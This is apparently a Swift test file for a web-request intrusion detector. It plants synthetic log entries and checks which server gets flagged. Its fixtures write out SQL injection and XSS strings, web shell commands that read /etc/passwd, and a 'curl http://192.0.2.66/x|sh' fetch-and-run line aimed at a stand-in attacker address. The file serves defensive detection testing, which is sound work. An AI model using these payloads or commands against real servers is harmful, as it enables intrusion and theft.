import Columnar
import Events
import Features
import Testing

@testable import Detectors

@Suite struct RequestsTests {
  private static let state = Result { try QuietWeb.site(days: 15).state(asOf: 15) }

  /// The detector's votes on day 15 with what is added to it.
  private func votes(adding planted: [TestEvent] = []) throws -> [ReadVote] {
    var site = try QuietWeb.site(days: 15)
    try site.add([], events: [.http: QuietWeb.day(15) + planted])
    return try votes(
      ScoringInputs(
        day: site.tables[15].day, calendar: site.calendar, tables: site.tables[15],
        state: RequestsTests.state.get()))
  }

  private func votes(_ inputs: ScoringInputs) throws -> [ReadVote] {
    let sink = TableSink()
    _ = try rawVotes(
      inputs, settings: TestSettings.all(), detectors: [RequestsDetector()], to: sink)
    return sink.batches.flatMap { ReadVote.read($0) }
  }

  private static let attacker = "192.0.2.66"

  private static func ask(
    _ urls: [String], of server: String?, _ status: Int = 200, method: String = "GET",
    by client: (Int) -> String = { _ in attacker }
  ) -> [TestEvent] {
    urls.enumerated().map { index, url in
      QuietWeb.request(
        40_000 + Double(index), client(index), server, url, status, method: method)
    }
  }

  private static let injections = [
    "/product/17%27", "/product/17%20OR%201=1--", "/product/17%27%20UNION%20SELECT%201,2,3--",
    "/search?q=a%27%20AND%20SLEEP(5)--&page=1", "/search?q=%27)%20OR%20(%271%27=%271&page=1",
    "/search?q=1;SELECT%20*%20FROM%20users&page=1", "/search?q=a%22%3E%3Cscript%3E&page=1",
  ]
  private static let commands = [
    "/static/up.php", "/static/up.php?c=id", "/static/up.php?c=cat%20/etc/passwd",
    "/static/up.php?c=uname%20-a;ls%20/", "/static/up.php?c=curl%20http://192.0.2.66/x|sh",
  ]
  private static let guessed = (0..<300).map {
    "/\(QuietNames.words[$0 % 20])\(QuietNames.words[$0 / 20])/admin.bak"
  }

  struct Planted: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let server: String
    /// The measure that leads.
    let lead: String
    let events: [TestEvent]

    init(_ name: String, _ server: String, _ lead: String, _ events: [TestEvent]) {
      testDescription = name
      self.server = server
      self.lead = lead
      self.events = events
    }
  }

  static let attacks = [
    Planted(
      "injections that are answered", QuietWeb.shop, "strange_requests_answered",
      ask(injections, of: QuietWeb.shop)),
    Planted(
      "injections at a server that its log does not name", QuietWeb.blog,
      "strange_requests_answered", ask(injections, of: nil)),
    Planted(
      "one injection", QuietWeb.shop, "strange_requests_answered",
      ask([injections[2]], of: QuietWeb.shop)),
    Planted(
      "one injection at an interface", QuietWeb.interface, "strange_requests_answered",
      ask(["/v1/stock?item=17%27%20OR%201=1--&store=4"], of: QuietWeb.interface)),
    Planted(
      "commands given to a page that somebody left", QuietWeb.shop, "strange_requests_answered",
      ask(commands, of: QuietWeb.shop)),
    Planted(
      "a page that somebody left and only sends to", QuietWeb.shop, "tries_at_one_address",
      ask(.init(repeating: "/static/up.php", count: 60), of: QuietWeb.shop, method: "POST")),
    Planted(
      "paths guessed until one is found", QuietWeb.shop, "strange_requests_refused",
      ask(guessed, of: QuietWeb.shop, 404) + ask(["/.env"], of: QuietWeb.shop)),
    Planted(
      "paths guessed from within", QuietWeb.interface, "strange_requests_refused",
      ask(guessed, of: QuietWeb.interface, 404) { _ in QuietOffice.workstation(3) }),
    Planted(
      "passwords tried by one client", QuietWeb.shop, "tries_at_one_address",
      ask(.init(repeating: "/login", count: 500), of: QuietWeb.shop, 401, method: "POST")),
    Planted(
      "passwords tried by a hundred clients", QuietWeb.shop, "tries_at_one_address",
      ask(.init(repeating: "/login", count: 3000), of: QuietWeb.shop, 401, method: "POST") {
        "192.0.2.\($0 % 100)"
      }),
  ]

  @Test("attacks are the server's", arguments: attacks) func attack(_ planted: Planted) throws {
    let votes = try votes(adding: planted.events)
    #expect(votes.map(\.entity) == [planted.server])
    #expect(votes.first?.features.first == planted.lead)
  }

  static let everyday = [
    Planted(
      "a new version", QuietWeb.shop, "",
      ask(
        (0..<600).map {
          "/v2/\(QuietNames.words[$0 % 15])/\(QuietNames.words[$0 % 20])?view=list&sort=-price"
        }, of: QuietWeb.shop
      ) { QuietWeb.visitor($0 * 7919 % 61) }),
    Planted(
      "a new version of an interface", QuietWeb.interface, "",
      ask((0..<240).map { "/v2/\(QuietNames.words[$0 % 20])?fields=a,b" }, of: QuietWeb.interface) {
        QuietOffice.workstation($0 % 12)
      }),
    Planted(
      "a search engine that reads all there is", QuietWeb.shop, "",
      ask((0..<900).map { "/product/\($0)" }, of: QuietWeb.shop)),
    Planted(
      "a crawler that finds old pages", QuietWeb.blog, "",
      ask((0..<20).map { "/posts/archive\(QuietNames.words[$0])" }, of: nil)),
    Planted(
      "a new monitor", QuietWeb.interface, "",
      ask(.init(repeating: "/health", count: 2880), of: QuietWeb.interface)),
    Planted(
      "probes that are refused", QuietWeb.shop, "",
      ask(guessed + injections + commands, of: QuietWeb.shop, 404)),
    Planted(
      "a page that is missing", QuietWeb.shop, "",
      ask(.init(repeating: "/static/new-logo.png", count: 2000), of: QuietWeb.shop, 404) {
        QuietWeb.visitor($0 % 300)
      }),
  ]

  @Test("what servers meet every day is no vote", arguments: everyday)
  func quiet(_ planted: Planted) throws {
    #expect(try votes(adding: planted.events).isEmpty)
  }

  @Test("quiet days have no votes") func quietDays() throws {
    let site = try QuietWeb.site(days: 16)
    for day in [6, 9, 12, 15] { #expect(try votes(site.inputs(day)).isEmpty) }
  }

  @Test("an attack does not hide the next day's") func poisoned() throws {
    var site = try QuietWeb.site(days: 15)
    for (number, urls) in [(15, RequestsTests.injections), (16, RequestsTests.commands)] {
      try site.add(
        [], events: [.http: QuietWeb.day(number) + RequestsTests.ask(urls, of: QuietWeb.shop)])
    }
    #expect(try votes(site.inputs(16)).map(\.entity) == [QuietWeb.shop])
  }

  @Test("the client and what it asked for are named") func peer() throws {
    let vote = try #require(
      try votes(adding: RequestsTests.ask(RequestsTests.commands, of: QuietWeb.shop)).first)
    #expect(
      vote.peer
        == "192.0.2.66 asking /static/up.php?c=curl%20http://192.0.2.66/x|sh")
    #expect(vote.typicals.first == 0.05)
  }

  @Test("a host of the site that asks is the cause, one from outside is none") func cause() throws {
    let host = QuietOffice.workstation(3)
    let inside = try votes(
      adding: RequestsTests.ask(RequestsTests.commands, of: QuietWeb.shop) { _ in host })
    #expect(inside.map(\.cause) == [host])
    let outside = try votes(adding: RequestsTests.ask(RequestsTests.commands, of: QuietWeb.shop))
    #expect(outside.map(\.cause) == [nil])
  }

  @Test("requests on their way out through a proxy are no server's") func proxied() throws {
    let events = ["http://203.0.113.7/a%27", "intranet.example:443"].map { url in
      QuietWeb.request(100, QuietOffice.workstation(1), "10.2.0.20", url)
    }
    var site = TestSite()
    try site.add([], events: [.http: events])
    #expect(site.tables[0][ServedRequest.schema].rowCount == 0)
  }
}
